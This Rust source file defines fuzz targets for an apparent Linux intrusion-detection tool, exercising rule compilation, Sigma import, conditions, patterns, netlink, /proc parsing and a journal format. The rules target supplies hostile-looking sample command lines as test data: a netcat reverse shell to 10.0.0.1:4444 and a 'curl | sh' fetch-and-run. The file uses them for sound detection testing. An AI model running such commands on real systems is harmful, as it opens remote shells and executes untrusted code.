//! What the fuzz targets in `fuzz/` do with their input; `tests/fuzzing.rs` does the same with the files of this
//! repository, so that none of it can rot.
//!
//! In: any bytes. Each function ends, takes time and memory in proportion to its input, and panics only if what is
//! promised of the parser does not hold.

use crate::alert::{HostClock, RecordId};
use crate::calendar::Date;
use crate::config::Config;
use crate::connector::wire;
use crate::control::Request;
use crate::diagnostics::{Diagnostics, Source};
use crate::event::Event;
use crate::followup::diag;
use crate::followup::sockets::{self, Layout, Protocol};
use crate::identity::elf;
use crate::journal::format::{self, segment_head};
use crate::journal::position;
use crate::journal::scan::Scanner;
use crate::output::entry::{Entry, Form, Kind};
use crate::process::capture::Prefilter;
use crate::process::details::{Details, Namespaces};
use crate::process::exec::{Exec, Image};
use crate::process::names::Accounts;
use crate::process::place::Place;
use crate::process::relatives::NoProcesses;
use crate::process::{overlay, parse};
use crate::replay::Reader;
use crate::rules::catalogue::Catalogue;
use crate::rules::catalogue::Hints;
use crate::rules::condition::{Condition, Truth};
use crate::rules::load::Places;
use crate::rules::model::Severity;
use crate::rules::pattern::{Comparison, Glob, Pattern};
use crate::rules::ruleset::{RuleSet, evaluate};
use crate::rules::subject::Surroundings;
use crate::rules::{address, arguments, load, sigma};
use crate::self_test::SelfTest;

/// A body.
pub type Body = fn(&[u8]);

/// The targets by name.
pub const TARGETS: &[(&str, Body)] = &[
    ("rules", rules),
    ("configuration", configuration),
    ("condition", condition),
    ("pattern", pattern),
    ("sigma", sigma),
    ("event", event),
    ("replay", replay),
    ("netlink", netlink),
    ("proc_files", proc_files),
    ("arguments", command_line),
    ("elf", elf),
    ("control", control),
    ("journal", journal),
];

/// The beginning of an ELF file.
pub fn elf(data: &[u8]) {
    if let Some(build_id) = elf::build_id(data) {
        let own = build_id.as_bytes();
        assert!(elf::is_elf(data) && data.windows(own.len()).any(|piece| piece == own));
    }
}

/// A line at the control socket.
pub fn control(data: &[u8]) {
    match Request::parse(data) {
        // A number with a fraction is read to the last digit but one.
        Ok(request) => {
            let again = Request::parse(&request.line()).ok();
            assert_eq!(again.map(|again| again.command), Some(request.command));
        }
        Err(refusal) => assert!(!refusal.message.is_empty()),
    }
}

/// A larger input is left alone: it finds nothing that a small one does not.
const LONGEST: usize = 64 * 1024;

fn source(name: &str, data: &[u8]) -> Option<Source> {
    let text = std::str::from_utf8(data).ok().filter(|text| text.len() <= LONGEST)?;
    Some(Source { name: name.to_owned(), text: text.to_owned() })
}

/// Messages are laid out with the line they are about, which needs right places.
fn shown(diagnostics: Diagnostics) -> Vec<String> {
    diagnostics.into_list().iter().map(ToString::to_string).collect()
}

/// Rules, macros, exceptions, utilities and tests in TOML.
pub fn rules(data: &[u8]) {
    let Some(source) = source("fuzz.toml", data) else { return };
    let diagnostics = Diagnostics::default();
    let compiled = load::compile(vec![source.clone()], &diagnostics);
    assert_eq!(
        compiled.is_none(),
        diagnostics.any_error(),
        "what is refused is said, and the other way round"
    );
    shown(diagnostics);
    if let Some(compiled) = compiled {
        let images = [
            (&b"/usr/bin/nc.openbsd"[..], &[&b"nc"[..], b"-e", b"/bin/sh", b"10.0.0.1", b"4444"][..]),
            (b"/memfd:x (deleted)", &[b"[kworker/0:1]"]),
            (b"/bin/busybox", &[b"sh", b"-c", b"curl http://example.org | sh"]),
        ];
        for (exe, argv) in images {
            let mut exec = Exec { image: Image::new(Some(exe), Some(argv)), ..Exec::default() };
            tried(&compiled, &exec);
            exec.image.cut_arguments(7);
            tried(&compiled, &exec);
        }
    }
    let diagnostics = Diagnostics::default();
    let places = Places { builtin: false, folders: Vec::new(), folders_required: false };
    SelfTest::of_sources(vec![source], &places, &diagnostics);
    shown(diagnostics);
}

/// The index and the prefilter say the same as the rules one by one.
fn tried(rules: &RuleSet, exec: &Exec) {
    let surroundings = Surroundings {
        accounts: Accounts::none(),
        namespaces: Namespaces::default(),
        processes: Box::new(NoProcesses),
        files: Default::default(),
    };
    let subject = rules.subject(exec, &surroundings, &HostClock);
    let today = Date { year: 2026, month: 1, day: 1 };
    let matching = rules.matching(&subject, today).len();
    let holds = |rule: &&_| evaluate(rule, &subject) == Truth::True;
    assert_eq!(
        matching,
        rules.rules().iter().filter(|rule| rule.enabled).filter(|rule| holds(&&***rule)).count()
    );
    let passes = rules.could_match(&exec.image, Hints::default()) || rules.wants_comm(&exec.image);
    assert!(passes || matching == 0, "the prefilter lets go of what a rule matches");
}

/// The configuration.
pub fn configuration(data: &[u8]) {
    let Some(source) = source("fuzz.toml", data) else { return };
    let diagnostics = Diagnostics::default();
    Config::parse(&source, &diagnostics);
    shown(diagnostics);
}

/// A condition, after a line with the names of selections.
pub fn condition(data: &[u8]) {
    let Some(text) = std::str::from_utf8(data).ok().filter(|text| text.len() <= LONGEST) else { return };
    let (names, text) = text.split_once('\n').unwrap_or(("tool shell filter_a filter_b", text));
    let names: Vec<&str> = names.split_whitespace().collect();
    match Condition::parse_with_shared(text, &names, names.len() / 2) {
        Ok(condition) => {
            assert!(condition.selections().iter().all(|&index| index < names.len()));
            // What is certain without knowing anything stays so whatever is known.
            let unknown = condition.evaluate(&|_| Truth::Unknown);
            for truth in [Truth::True, Truth::False] {
                let known = condition.evaluate(&|index| if index % 2 == 0 { truth } else { truth.negated() });
                assert!(known != Truth::Unknown && (unknown == Truth::Unknown || unknown == known));
            }
        }
        Err((place, message)) => {
            assert!(text.get(place).is_some() && !message.is_empty());
        }
    }
}

/// A comparison by number, a value up to a newline, and a text.
pub fn pattern(data: &[u8]) {
    const COMPARISONS: [Comparison; 7] = [
        Comparison::Equals,
        Comparison::Contains,
        Comparison::StartsWith,
        Comparison::EndsWith,
        Comparison::Glob,
        Comparison::PathGlob,
        Comparison::Regex,
    ];
    let Some((&first, rest)) = data.split_first() else { return };
    let mut parts = rest.splitn(2, |&byte| byte == b'\n');
    let (value, text) = (parts.next().unwrap_or_default(), parts.next().unwrap_or_default());
    let Some(value) = std::str::from_utf8(value).ok().filter(|_| rest.len() <= 1024) else { return };
    let Some(comparison) = COMPARISONS.get(usize::from(first & 0x7)) else { return };
    for cased in [false, true] {
        let Ok(pattern) = Pattern::new(*comparison, &[value], cased) else { continue };
        let holds = pattern.matches(text);
        for end in 0..text.len().min(64) {
            assert!(
                holds || !pattern.matches_beginning(&text[..end]),
                "a beginning fulfils what the whole does not"
            );
        }
    }
    if let Ok(glob) = Glob::new(value.as_bytes()) {
        let pieces = glob.literals();
        let stands = |piece: &Vec<u8>| text.windows(piece.len()).any(|window| window == piece);
        assert!(
            !glob.matches(text, true) || pieces.iter().all(stands),
            "a match lacks a piece of its pattern"
        );
    }
}

/// Sigma rules in YAML: whatever is translated can be read.
pub fn sigma(data: &[u8]) {
    let Some(source) = source("fuzz.yml", data) else { return };
    let import = sigma::import(&source);
    import.messages.iter().for_each(|message| {
        let _ = message.to_string();
    });
    for rule in import.rules {
        let diagnostics = Diagnostics::default();
        let compiled =
            load::compile(vec![Source { name: "import.toml".to_owned(), text: rule.toml }], &diagnostics);
        assert!(compiled.is_some(), "{:?}", shown(diagnostics));
    }
}

/// A recorded event in JSON.
pub fn event(data: &[u8]) {
    let Ok(event) = serde_json::from_slice::<Event>(data) else { return };
    let line = event.json();
    assert_eq!(serde_json::from_str::<Event>(&line).ok().as_ref(), Some(&event), "{line}");
    let case = event.case(0, &Catalogue::default());
    assert_eq!(case.exec.details.session, event.session);
}

/// Lines of events, alerts and audit records.
pub fn replay(data: &[u8]) {
    if data.len() > LONGEST {
        return;
    }
    let mut reader = Reader::default();
    let mut found = 0;
    for line in data.split(|&byte| byte == b'\n') {
        if let Err(reason) = reader.take(line, |_| found += 1) {
            assert!(!reason.is_empty());
        }
    }
    reader.end(|_| found += 1);
    assert!(found <= data.len());
}

/// A datagram of the process connector or of sock_diag.
pub fn netlink(data: &[u8]) {
    let count = wire::messages(data).count();
    assert!(count <= data.len() / 16 + 1, "a message has a header of 16 bytes");
    let count = diag::answers(data, Protocol::Tcp).count();
    assert!(count <= data.len() / 16 + 1, "a message has a header of 16 bytes");
}

/// Files of /proc/PID, each parser on the same bytes.
pub fn proc_files(data: &[u8]) {
    let mut groups = Vec::new();
    parse::status(data, &mut groups);
    parse::stat(data);
    parse::namespace(data);
    parse::number::<u32>(data);
    parse::ssh_client(data);
    if let Ok(text) = std::str::from_utf8(data)
        && let Some(device) = parse::tty_device(text)
    {
        parse::tty_name(device);
    }
    for layout in [Layout::Inet, Layout::Unix, Layout::InodeAt(8)] {
        sockets::line(data, Protocol::Udp, layout);
    }
    assert!(parse::cgroup_paths(data).count() <= data.len());
    Place::of_cgroup(data);
    for path in parse::cgroup_paths(data).filter_map(|path| std::str::from_utf8(path).ok()) {
        let container = Place::container_path(path);
        assert!(container.is_none_or(|container| path.starts_with(container)));
    }
    let _ = overlay::upper_path(data, b"/usr/bin/nc");
    let mut details = Details::default();
    details.set_environment(data);
    let _ = details.variable(b"PATH");
    assert!(details.variables().is_none_or(|entries| entries.count() <= data.len()));
}

/// An argument list, its parts separated by NULs.
pub fn command_line(data: &[u8]) {
    let mut image = Image::default();
    image.set_arguments(data, false);
    image.set_exe(data);
    assert!(image.name().is_some_and(|name| name.len() <= data.len()));
    let arguments = || image.argv().into_iter().flatten();
    assert!(arguments::flags(arguments()).len() <= data.len());
    assert!(arguments::options(arguments()).len() <= data.len());
    assert!(arguments().map(|argument| address::addresses(argument).count()).sum::<usize>() <= data.len());
}

/// A segment of the journal, or a position.
pub fn journal(data: &[u8]) {
    position::read(data);
    let read = |bytes: &[u8]| {
        let mut scanner = Scanner::new(bytes, 0, 0, u64::MAX);
        // A slice can always be read.
        let version = scanner.segment_head().ok().flatten();
        let (mut entries, mut last, mut covered) = (Vec::new(), 0, 0);
        while let Ok(Some(found)) = scanner.next_entry() {
            assert!(found.entry.id.number > last, "numbers ascend");
            last = found.entry.id.number;
            covered += scanner.offset() - found.offset;
            entries.push(found.entry);
        }
        let damage = scanner.damage();
        let head = if version.is_some() { segment_head().len() as u64 } else { 0 };
        assert_eq!(
            head + covered + damage.bytes + damage.torn,
            bytes.len() as u64,
            "every byte is accounted for"
        );
        (entries, damage.torn)
    };
    let (entries, torn) = read(data);
    let mut written = segment_head().to_vec();
    entries.iter().for_each(|entry| format::write(entry, &mut written));
    assert_eq!(read(&written).0, entries, "what was found is written and found again");
    // What is damaged hides nothing behind it, unless an undamaged head before its end promises more.
    let sample = Entry::of_parts(ID, 1, Severity::Low, Kind::Alert, vec![(Form::Text, 0..2)], "hi");
    if let Some(sample) = sample.filter(|_| entries.is_empty() && torn < format::HEAD as u64) {
        let mut behind = data.to_vec();
        format::write(&sample, &mut behind);
        assert_eq!(read(&behind).0, [sample]);
    }
}

const ID: RecordId = RecordId { run: 1, number: u64::MAX - 1 };
